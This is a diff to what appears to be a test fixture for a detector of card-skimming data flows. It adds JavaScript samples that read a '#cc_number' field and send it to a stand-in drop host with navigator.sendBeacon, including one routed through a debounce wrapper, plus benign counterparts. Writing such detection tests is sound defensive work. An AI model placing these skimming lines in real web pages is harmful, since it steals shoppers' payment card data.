@@ -150,6 +150,11 @@ FLOWS = {
     "a helper that reads arguments": (
         "function pick() { return arguments[0]; }\n"
         f"navigator.sendBeacon('{DROP}', pick(document.querySelector('#cc_number').value));"),
+    "through what a wrapper of the sender returned (debounce, throttle)": (
+        "import { debounce } from './utils.js';\n"
+        f"const report = debounce((d) => {{ navigator.sendBeacon('{DROP}', btoa(d)); }}, 300);\n"
+        "document.querySelector('#pay').addEventListener('click', () => {\n"
+        "  report(document.querySelector('#cc_number').value); });"),
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -208,6 +213,9 @@ NO_FLOWS = {
         " return s % 10 === 0; }\n"
         "var n = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
         f"navigator.sendBeacon('{DROP}', JSON.stringify({{b: brandOf(n), ok: luhn(n)}}));"),
+    "a wrapper of the sender handed only a length": (
+        f"var report = lib.throttle(function (d) {{ navigator.sendBeacon('{DROP}', d); }}, 9);\n"
+        "report(String(document.querySelector('#cc_number').value.length));"),
     "WebRTC with STUN servers only": (  # the peer is named by the SDP, not by a server
         "var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:metrics-drop.top:3478'}]});\n"
         "var ch = pc.createDataChannel('x');\n"
